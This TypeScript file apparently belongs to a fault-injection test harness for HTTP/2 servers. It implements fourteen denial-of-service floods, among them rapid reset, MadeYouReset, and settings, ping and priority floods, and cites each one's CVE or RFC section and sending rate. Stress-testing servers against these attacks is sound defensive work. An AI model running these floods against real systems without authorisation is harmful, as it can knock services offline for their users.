/** Frames that are each allowed, or nearly, far too many of them. */
import type { Attack, Fault } from '../fault.js';
import { type H2Connection, onConnections } from '../wire/connection.js';
import {
  data,
  FLAG,
  FRAME,
  frame,
  headers,
  rstStream,
  settings,
  uint32,
  windowUpdate,
} from '../wire/frames.js';
import { block, callBlock } from '../wire/hpack.js';
import { CHECK, DEDUPE, EMPTY_MESSAGE, GET_LISTS } from './messages.js';

/** On two connections, at 4,000 frames a second, unless a fault says otherwise. */
const LOAD = { connections: 2, perSecond: 4000 };

const flood = (step: (connection: H2Connection) => void) => (attack: Attack) =>
  onConnections(attack, LOAD, step);

/** Sends `frames` on a stream that each connection opens first. */
const onOneStream =
  (perSecond: number, step: (connection: H2Connection, stream: number) => void) =>
  (attack: Attack) => {
    const opened = new WeakMap<H2Connection, number>();
    return onConnections(attack, { ...LOAD, perSecond }, (connection) => {
      const stream = opened.get(connection) ?? connection.open(callBlock(DEDUPE));
      opened.set(connection, stream);
      step(connection, stream);
    });
  };

const LISTS = callBlock(GET_LISTS);
/** 2,400 entries, the most that the first report had. */
const LARGE_SETTINGS = settings(
  ...Array.from({ length: 2400 }, (_, index) => [4, 65_535 + index] as const),
);

export const FLOODS: readonly Fault[] = [
  {
    name: 'rapid-reset',
    report: 'CVE-2023-44487',
    how: '4,000 calls a second, each cancelled in the same packet',
    play: flood((connection) => {
      const stream = connection.nextStream();
      connection.send(
        headers(stream, LISTS),
        data(stream, EMPTY_MESSAGE, FLAG.endStream),
        rstStream(stream),
      );
    }),
  },
  {
    name: 'reset-flood',
    report: 'CVE-2019-9514',
    how: '4,000 requests a second without a path, each of which asks for a reset',
    play: flood((connection) => {
      connection.open(block([[':method', 'POST']]));
    }),
  },
  {
    name: 'made-you-reset',
    report: 'CVE-2025-8671',
    how: '4,000 calls a second, each followed by a WINDOW_UPDATE of 0 for which it is reset',
    play: flood((connection) => {
      const stream = connection.open(LISTS);
      connection.send(windowUpdate(stream, 0));
    }),
  },
  {
    name: 'made-you-reset-by-overflow',
    report: 'h2o/h2o #3502',
    how: '4,000 calls a second, each followed by a WINDOW_UPDATE beyond 2^31',
    play: flood((connection) => {
      const stream = connection.open(LISTS);
      connection.send(windowUpdate(stream, 2 ** 31 - 1), windowUpdate(stream, 2 ** 31 - 1));
    }),
  },
  {
    name: 'settings-flood',
    report: 'CVE-2019-9515',
    how: '4,000 empty SETTINGS a second, each to be acknowledged',
    play: flood((connection) => connection.send(settings())),
  },
  {
    name: 'large-settings',
    report: 'CVE-2020-11080',
    how: '200 SETTINGS of 2,400 entries a second',
    play: (attack) =>
      onConnections(attack, { connections: 2, perSecond: 200 }, (connection) =>
        connection.send(LARGE_SETTINGS),
      ),
  },
  {
    name: 'settings-never-acknowledged',
    report: 'RFC 9113, section 6.5.3',
    how: '64 connections that never acknowledge SETTINGS and make 500 calls a second',
    play: (attack) =>
      onConnections(
        attack,
        { connections: 64, perSecond: 500, acknowledges: false },
        (connection) => {
          const stream = connection.open(LISTS);
          connection.send(data(stream, EMPTY_MESSAGE, FLAG.endStream));
        },
      ),
  },
  {
    name: 'ping-flood',
    report: 'CVE-2019-9512',
    how: '4,000 PINGs a second',
    play: flood((connection) => connection.send(frame(FRAME.ping, { payload: Buffer.alloc(8) }))),
  },
  {
    name: 'ping-answers-never-asked-for',
    report: 'RFC 9113, section 6.7',
    how: '4,000 acknowledgements of PINGs a second that nobody sent',
    play: flood((connection) =>
      connection.send(frame(FRAME.ping, { flags: FLAG.ack, payload: Buffer.alloc(8) })),
    ),
  },
  {
    name: 'priority-flood',
    report: 'CVE-2019-9513',
    how: '4,000 PRIORITY frames a second that shuffle 1,000 streams',
    play: (attack) =>
      onConnections(attack, LOAD, (connection) => {
        const stream = attack.random.below(1000) * 2 + 1;
        const parent = uint32(((stream * 7) % 2000) & ~1);
        connection.send(
          frame(FRAME.priority, { stream, payload: Buffer.concat([parent, Buffer.of(255)]) }),
        );
      }),
  },
  {
    name: 'empty-data-flood',
    report: 'CVE-2019-9518',
    how: '4,000 empty DATA frames a second on an open call',
    play: onOneStream(4000, (connection, stream) => connection.send(data(stream, Buffer.alloc(0)))),
  },
  {
    name: 'window-update-flood',
    report: 'RFC 9113, section 10.5',
    how: '4,000 WINDOW_UPDATEs of one byte a second',
    play: onOneStream(4000, (connection, stream) => connection.send(windowUpdate(stream, 1))),
  },
  {
    name: 'goaway-flood',
    report: 'CVE-2022-24777',
    how: '1,000 GOAWAYs a second in the middle of calls',
    play: (attack) =>
      onConnections(attack, { connections: 2, perSecond: 1000 }, (connection) => {
        const stream = connection.open(callBlock(CHECK));
        connection.send(frame(FRAME.goaway, { payload: Buffer.alloc(8) }));
        connection.send(data(stream, EMPTY_MESSAGE, FLAG.endStream));
      }),
  },
  {
    name: 'unknown-frames',
    report: 'RFC 9113, section 5.5',
    how: '4,000 frames a second of types 10 to 255, ALTSVC and ORIGIN among them',
    play: (attack) =>
      onConnections(attack, LOAD, (connection) =>
        connection.send(
          frame(attack.random.between(10, 255), {
            flags: attack.random.below(256),
            payload: Buffer.alloc(attack.random.below(64)),
          }),
        ),
      ),
  },
  {
    name: 'padding-flood',
    report: 'RFC 9113, section 10.5.1',
    how: '2,000 DATA frames a second that are padding alone, which still fills the window',
    play: onOneStream(2000, (connection, stream) =>
      connection.send(
        data(stream, Buffer.concat([Buffer.of(255), Buffer.alloc(255)]), FLAG.padded),
      ),
    ),
  },
];
